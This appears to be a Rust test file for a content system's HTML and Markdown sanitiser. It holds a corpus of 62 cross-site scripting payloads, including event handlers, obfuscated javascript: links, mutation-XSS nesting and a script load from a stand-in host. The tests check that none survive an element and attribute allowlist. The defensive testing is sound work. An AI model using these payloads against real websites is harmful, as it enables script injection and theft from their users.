//! Inputs that want to become scripts, and the proof that they do not.

use scraper::{Html, Node};

use super::samples::{resolved, source};
use super::{Body, from_html, from_markdown, link};

const CORPUS: [&str; 62] = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.vn/x.js></sCrIpT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src='javascript:alert(1)'>",
    "<img src=\"x\" alt='\"><script>alert(1)</script>'>",
    "<img src='https://a.vn/\" onerror=\"alert(1)'>",
    "<img/src=x/onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<math href='javascript:alert(1)'>x</math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src='https://www.youtube.com/embed/dQw4w9WgXcQ' onload=alert(1) title='\"><script>x</script>'></iframe>",
    "<iframe src='https://www.youtube.com/embed/\"><script>alert(1)</script>'></iframe>",
    "<figure data-provider=youtube data-reference='\"><script>alert(1)</script>'><a href=x>y</a></figure>",
    "<object data='javascript:alert(1)'></object><embed src='javascript:alert(1)'>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href=' &#1; javascript:alert(1)'>x</a>",
    "<a href='java&#x09;script:alert(1)'>x</a>",
    "<a href='java&NewLine;script&colon;alert(1)'>x</a>",
    "<a href='&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='https://a.vn/\" onmouseover=\"alert(1)'>x</a>",
    "<a href=\"https://a.vn/'onmouseover='alert(1)\">x</a>",
    "<a href='https://gov.vn@evil.vn/'>x</a>",
    "<a href='//evil.vn' target=_blank onclick=alert(1)>x</a>",
    "<p style='background:url(javascript:alert(1))' onclick=alert(1)>x</p>",
    "<p id='b-x\" onclick=\"alert(1)'>x</p>",
    "<p id='b-x' class='file'><a download href='javascript:alert(1)'>x</a></p>",
    "<style>@import 'javascript:alert(1)';</style>",
    "<link rel=stylesheet href='javascript:alert(1)'><base href='javascript:/'>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<table background='javascript:alert(1)'><td background=x onclick=alert(1)>x<td>y</table>",
    "<td colspan='2\" onclick=\"x'>x</td><table><tr><td rowspan='\"><script>x</script>'>x<td>y</table>",
    "<input onfocus=alert(1) autofocus><textarea></textarea><img src=x onerror=alert(1)></textarea>",
    "<template><img src=x onerror=alert(1)></template>",
    "<title></title><img src=x onerror=alert(1)></title>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml version='1.0'?><x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<b>&lt;img src=x onerror=alert(1)&gt;</b>",
    "<blockquote>x<footer>\"><script>alert(1)</script>&lt;script&gt;</footer></blockquote>",
    "<figure><img src=1><figcaption>&lt;/figcaption&gt;&lt;script&gt;<small class=credit>&lt;svg onload=x&gt;</small></figure>",
    "<details ontoggle=alert(1) open><summary>x</summary></details>",
    "<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)></audio>",
    "<a\u{0}href='javascript:alert(1)'>x</a><img src=x\u{0}onerror=alert(1)>",
    "[x](javascript:alert(1)) [y](<java\tscript:alert(1)>) ![z](javascript:alert(1))",
    "[x](https://a.vn/\"onmouseover=\"alert(1)) ![\"><script>](https://a.vn/x \"</figcaption><script>alert(1)</script>\")",
    "<javascript:alert(1)> <https://a.vn/?\"><script>>",
    "`<script>alert(1)</script>` ``<img src=x onerror=alert(1)>``",
    "[a]: javascript:alert(1)\n\n[a] ![a]\n\n| <script>alert(1)</script> | <img src=x onerror=y> |\n|-|-|\n| `</code><script>` | b |",
    "```\"><script>\n</pre><script>alert(1)</script>\n```\n\n    <svg onload=alert(1)>",
];

/// The elements that the output may have, each with its attributes; `id` and `class` may stand at any of them.
const ALLOWED: [(&str, &[&str]); 28] = [
    ("a", &["href", "rel", "type", "download"]),
    ("blockquote", &[]),
    ("br", &[]),
    ("caption", &[]),
    ("code", &[]),
    ("em", &[]),
    ("figcaption", &[]),
    ("figure", &["data-provider", "data-reference"]),
    ("footer", &[]),
    ("h2", &[]),
    ("h3", &[]),
    ("h4", &[]),
    ("html", &[]),
    ("body", &[]),
    ("img", &["src", "alt", "width", "height", "loading"]),
    ("li", &[]),
    ("ol", &[]),
    ("p", &[]),
    ("s", &[]),
    ("small", &[]),
    ("strong", &[]),
    ("sub", &[]),
    ("sup", &[]),
    ("table", &[]),
    ("tbody", &[]),
    ("td", &["colspan", "rowspan"]),
    ("th", &["colspan", "rowspan", "scope"]),
    ("tr", &[]),
];

/// What of the HTML is not allowed.
fn offences(html: &str) -> Vec<String> {
    let mut found = Vec::new();
    for node in Html::parse_fragment(html).tree.nodes() {
        let element = match node.value() {
            Node::Element(element) => element,
            Node::Text(_) | Node::Fragment | Node::Document => continue,
            other => {
                found.push(format!("{other:?}"));
                continue;
            }
        };
        let name = if matches!(element.name(), "u" | "ul") { "p" } else { element.name() };
        let Some((_, attributes)) = ALLOWED.iter().find(|(allowed, _)| *allowed == name) else {
            found.push(format!("<{name}>"));
            continue;
        };
        for (attribute, value) in element.attrs() {
            let sound = match attribute {
                "id" => value.strip_prefix("b-").and_then(super::BlockId::parse).is_some(),
                "class" => ["gallery", "embed", "file", "credit"].contains(&value),
                "href" => link::judge(value).is_ok(),
                "src" => value.starts_with("https://media.example/"),
                "srcset" => value.starts_with("https://media.example/") && value.ends_with(" 4w"),
                other => attributes.contains(&other),
            };
            if !sound {
                found.push(format!("<{name} {attribute}={value:?}>"));
            }
        }
    }
    found
}

/// Checks both outputs of an input as it was imported, files found or not.
fn prove(input: &str, body: &Body) {
    let found = resolved(body.clone());
    for html in [body.to_html(&source), found.to_html(&source), found.to_html(&|_| None)] {
        assert_eq!(offences(&html), Vec::<String>::new(), "{input}\n{html}");
    }
    let markdown = found.to_markdown(&source);
    let again = resolved(from_markdown(&markdown).unwrap());
    assert_eq!(offences(&again.to_html(&source)), Vec::<String>::new(), "{input}\n{markdown}");
}

#[test]
fn nothing_of_the_corpus_gets_through() {
    for input in CORPUS {
        prove(input, &from_html(input).unwrap());
        prove(input, &from_markdown(input).unwrap());
        // As text of every sort, and inside of everything that has an inside.
        for (before, after) in [
            ("<table><caption>", "</caption><tr><th>x<td>y</table>"),
            ("<table><tr><td>x<td>", "</table>"),
            ("<ul><li>", "</ul>"),
            ("<figure><img src=1><figcaption>", "</figure>"),
            ("<blockquote><p>x</p><footer>", "</footer></blockquote>"),
            ("<h2>", "</h2>"),
            ("<p class=file><a download href=/x.pdf>", "</a></p>"),
            ("<a href='https://a.vn/'><b>", "</b></a>"),
        ] {
            prove(input, &from_html(&format!("{before}{input}{after}")).unwrap());
        }
    }
}

#[test]
fn hostile_texts_in_a_stored_body_are_only_texts() {
    for input in CORPUS {
        let text = serde_json::to_string(input).unwrap();
        let json = format!(
            r#"{{"blocks":[
            {{"id":"a","type":"paragraph","content":[{{"text":{text},"link":{text},"marks":["underline"]}}]}},
            {{"id":"b","type":"image","media":{{"asset":"00000000-0000-0000-0000-000000000001"}},"alternativeText":{text},"caption":{text},"credit":{text}}},
            {{"id":"c","type":"image","media":{{"address":{text}}},"caption":{text}}},
            {{"id":"d","type":"embed","provider":"vimeo","reference":{text},"title":{text}}},
            {{"id":"e","type":"quote","content":[{{"text":{text}}}],"attribution":{text}}},
            {{"id":"f","type":"file","media":{{"asset":"00000000-0000-0000-0000-000000000001"}},"title":{text}}},
            {{"id":"g","type":"table","caption":{text},"rows":[{{"cells":[{{"content":[{{"text":{text}}}],"header":true}}]}}]}},
            {{"id":"h","type":"heading","level":9,"content":[{{"text":{text}}}]}}]}}"#
        );
        let body: Body = serde_json::from_str(&json).unwrap();
        // Even when nobody has checked it.
        assert_eq!(offences(&body.to_html(&source)), Vec::<String>::new(), "{input}");
        assert!(!body.check().is_empty());
        let again = from_markdown(&body.to_markdown(&source)).unwrap();
        assert_eq!(offences(&resolved(again).to_html(&source)), Vec::<String>::new(), "{input}");
    }
}

#[test]
fn the_judge_finds_what_it_should() {
    for html in
        ["<script>", "<p onclick=x>", "<a href='javascript:x'>y</a>", "<img src=x>", "<!-- x -->", "<p class=x>"]
    {
        assert_eq!(offences(html).len(), 1, "{html}");
    }
}
